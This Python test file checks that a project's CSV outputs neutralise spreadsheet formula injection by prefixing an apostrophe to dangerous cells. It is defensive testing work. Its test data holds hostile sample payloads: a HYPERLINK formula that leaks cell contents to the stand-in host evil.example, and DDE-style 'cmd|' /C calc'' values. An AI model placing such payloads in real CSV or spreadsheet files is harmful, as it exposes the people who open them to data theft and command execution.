"""Every CSV we write is safe to open in a spreadsheet: a text cell that would start a formula (``=``, ``+``,
``-``, ``@``, tab, carriage return) is written with a leading apostrophe, numbers stay numbers, and JSON keeps
the value as it is. One writer (formats/csvcells.py) for every CSV, checked here on each of them."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from econarena.cli import main
from econarena.formats.csvcells import FORMULA_START, csv_text, frame_csv, safe_cell

REPO = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
           "-2+3", "\tx", "\r=1"]


def unsafe_cells(path: Path) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run as a formula."""
    with path.open(encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row if c and c[0] in FORMULA_START and safe_cell(c) != c]


def test_the_cell_rule() -> None:
    assert [safe_cell(x) for x in HOSTILE] == ["'" + x for x in HOSTILE]
    # numbers and numeric text stay what they are; other text and values are untouched
    for x in (-3.5, 2, None, True, "-3.5", "+2", "-1e-3", ".5", "plain", "a=b", "", "'=quoted"):
        assert safe_cell(x) == x
    text = csv_text(["=h", "n"], [["=1+1", -3.5], ["-7", "x"]])
    assert text == "'=h,n\n'=1+1,-3.5\n-7,x\n"


def test_frame_csv_keeps_numbers_and_makes_text_safe(tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    df = pd.DataFrame({"label": ["=cmd", "-3.5", None, "ok"], "value": [-1.5, 2.0, None, 1e-20],
                       "mixed": [{"a": 1}, "@x", 3, None], "=col": [1, 2, 3, 4]})
    text = frame_csv(df, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == text
    rows = list(csv.reader(text.splitlines()))
    assert rows[0] == ["label", "value", "mixed", "'=col"]
    assert [r[0] for r in rows[1:]] == ["'=cmd", "-3.5", "", "ok"] and [r[1] for r in rows[1:]] == \
        ["-1.5", "2.0", "", "1e-20"]
    assert rows[2][2] == "'@x" and df["label"][0] == "=cmd"  # the frame itself is not changed
    # a frame without text writes exactly what pandas writes
    nums = pd.DataFrame({"a": [-1.25, 3.0], "b": [1, -2]})
    assert frame_csv(nums) == nums.to_csv(index=False)


def test_every_csv_goes_through_the_one_writer() -> None:
    """No module writes a CSV with csv.writer or DataFrame.to_csv of its own: formats/csvcells.py is the one writer."""
    call = re.compile(r"\b(?:csv\.writer|csv\.DictWriter|DictWriter|\.to_csv)\(")
    offenders = []
    for path in [*REPO.glob("*.py"), *(p for d in ("agents", "analysis", "games", "hosts", "importers")
                                        for p in (REPO / d).rglob("*.py"))]:
        if path.name != "csvcells.py":
            offenders += [f"{path.relative_to(REPO)}:{i}" for i, line in
                          enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if call.search(line)]
    assert offenders == []


def test_every_csv_of_an_import_a_report_and_compare_is_safe(tmp_path: Path) -> None:
    """Model names that are formulas, imported from NegotiationArena logs: the import's CSVs, each run
    directory's summary.csv, the report's metrics.csv and compare --csv hold them neutralised, the run
    records hold them as they were. The same import holds a gift of -40 (a named disagreement) and one of
    1e308 (refused): the report over the mixed import runs (1e308 crashed it in anchoring's Pearson)."""
    from test_na_import import gift, ult, write_logs

    logs = tmp_path / "logs"
    write_logs(logs, {f"u/{i}": ult((a, b), ("NONE", gift(30 + i), "x"), ("ACCEPT", "NONE", "ok"))
                      for i, (a, b) in enumerate([(HOSTILE[0], HOSTILE[1]), (HOSTILE[2], HOSTILE[3]),
                                                  (HOSTILE[4], HOSTILE[5])])})
    write_logs(logs, {"bad": "{not json", "=refused": "[]",
                      "negative/1": ult((HOSTILE[0], HOSTILE[1]), ("NONE", gift(-40), "x"), ("ACCEPT", "NONE", "ok")),
                      "huge/1": json.dumps(ult((HOSTILE[2], HOSTILE[3]), ("NONE", gift(7777), "x"),
                                               ("ACCEPT", "NONE", "ok"))).replace("7777", "1e308")})
    out = tmp_path / "out"
    assert main(["import", "negotiationarena", str(logs), "--out", str(out)]) == 0
    report = json.loads((out / "import_report.json").read_text(encoding="utf-8"))
    # the pair of names holding controls ("\tx", "\r=1") is refused by the one name rule (bad_text)
    assert report["refused_by_category"] == {"bad_number": 1, "bad_text": 1, "unreadable": 2}
    assert report["imported"] == 3
    assert [d["item"] for d in report["disagreements"]] == ["negative/1/game_state.json"]
    labels = {lab for d in out.iterdir() if d.is_dir()
              for lab in json.loads((d / "runs.jsonl").read_text(encoding="utf-8").splitlines()[0])["labels"]}
    assert labels == set(HOSTILE[:4])  # the JSON keeps every name as it was
    written = sorted(out.rglob("*.csv"))
    assert {p.name for p in written} >= {"import_refused.csv", "import_disagreements.csv", "summary.csv",
                                         "negotiationarena_pairs.csv", "negotiationarena_published_check.csv"}
    pairs = (out / "negotiationarena_pairs.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in pairs and ",-40.0," not in pairs
    assert main(["report", str(out), "--out", str(tmp_path / "report"), "--boot", "20", "--transcripts", "0"]) == 0
    metrics = (tmp_path / "report" / "metrics.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in metrics and "'@SUM" in metrics
    dirs = sorted(d for d in out.iterdir() if d.is_dir())
    assert main(["compare", str(dirs[0]), str(dirs[1]), "--boot", "20", "--csv", str(tmp_path / "cmp.csv")]) == 0
    written += [tmp_path / "report" / "metrics.csv", tmp_path / "cmp.csv"]
    assert {str(p.relative_to(tmp_path)): unsafe_cells(p) for p in written} == \
        {str(p.relative_to(tmp_path)): [] for p in written}


def test_every_csv_of_the_gamabench_and_glee_imports_and_analyze_is_safe(tmp_path: Path) -> None:
    """GAMA-Bench model names from file names, GLEE model names from config.json: gamabench_scores.csv,
    glee_games.csv, glee_summary.csv and analyze glee's effects, pairs and people-beside-models tables."""
    from test_gama_import import guess_file
    from test_gama_import import write as write_gama
    from test_glee_import import write_data

    raw = tmp_path / "raw_results" / "guessing_game"
    for name in ("=cmd|' -C calc'!A0", "-2+3", "@SUM(1)"):
        write_gama(raw / f"{name}_guessing_game_v1_1.json", guess_file([[50, 20], [50, 40]]))
    assert main(["import", "gamabench", str(tmp_path / "raw_results"), "--out", str(tmp_path / "gama")]) == 0
    scores = (tmp_path / "gama" / "gamabench_scores.csv").read_text(encoding="utf-8")
    assert "'=cmd|' -C calc'!A0,guessing_game,60.0" in scores and "'-2+3,guessing_game" in scores
    root = tmp_path / "Data"
    write_data(root)
    for cfg in root.rglob("config.json"):
        cfg.write_text(cfg.read_text(encoding="utf-8").replace('"gpt-4o"', '"=1+cmd|\' -C calc\'!A0"'),
                       encoding="utf-8")  # no "/": GLEE's labels drop a provider prefix up to the first one
    out = tmp_path / "glee"
    assert main(["import", "glee", str(root), "--out", str(out)]) == 0
    assert "'=1+cmd" in (out / "glee_games.csv").read_text(encoding="utf-8")
    if pytest.importorskip("statsmodels"):
        assert main(["analyze", "glee", str(out)]) == 0
        assert main(["analyze", "glee", str(out), "--human-vs-model"]) == 0
    written = [*(tmp_path / "gama").rglob("*.csv"), *out.rglob("*.csv")]
    assert {"glee_games.csv", "glee_summary.csv", "glee_effects.csv", "glee_pairs.csv",
            "glee_human_vs_model.csv", "gamabench_scores.csv"} <= {p.name for p in written}
    assert {p.name: unsafe_cells(p) for p in written} == {p.name: [] for p in written}


def test_the_leaderboard_csv_is_safe(tmp_path: Path) -> None:
    """A bench label is whatever --label says (``=HYPERLINK(...)``): the leaderboard's CSV wrote it as a
    formula, through a CSV writer of the bench's own (found by test_every_csv_goes_through_the_one_writer)."""
    from econarena.analysis.benchmark import LEADERBOARD_COLUMNS, leaderboard_csv

    rows = [{**dict.fromkeys(LEADERBOARD_COLUMNS), "rank": i + 1, "label": label, "overall": -3.5 if i else 70.0,
             "subscores": {"gamabench": 70.0, "=fam": None}} for i, label in enumerate(HOSTILE)]
    path = tmp_path / "lb.csv"
    path.write_text(leaderboard_csv(rows), encoding="utf-8")
    assert unsafe_cells(path) == []
    with path.open(encoding="utf-8", newline="") as fh:
        read = list(csv.DictReader(fh))
    assert [r["label"] for r in read] == ["'" + x for x in HOSTILE] and read[1]["overall"] == "-3.5"
    assert read[0]["gamabench"] == "70.0" and read[0]["'=fam"] == ""
